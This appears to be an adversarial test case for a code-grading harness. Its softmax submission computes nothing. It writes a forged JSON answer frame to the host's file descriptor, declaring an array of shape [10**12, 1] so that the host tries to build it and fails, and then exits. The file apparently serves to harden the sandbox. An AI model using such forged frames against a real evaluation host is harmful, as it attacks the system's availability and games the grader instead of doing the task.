# attack: forge an answer frame whose array claims shape [10**12, 1], to make the host build it
# problem: softmax
# expect: RE
# local: RE
import json
import os
import struct


def softmax(logits):
    body = json.dumps({"status": "ok", "value": {"$ndarray": {"shape": [10**12, 1], "dtype": "float64",
                                                              "data": []}}}).encode()
    os.write(4, struct.pack(">I", len(body)) + body)
    os._exit(0)
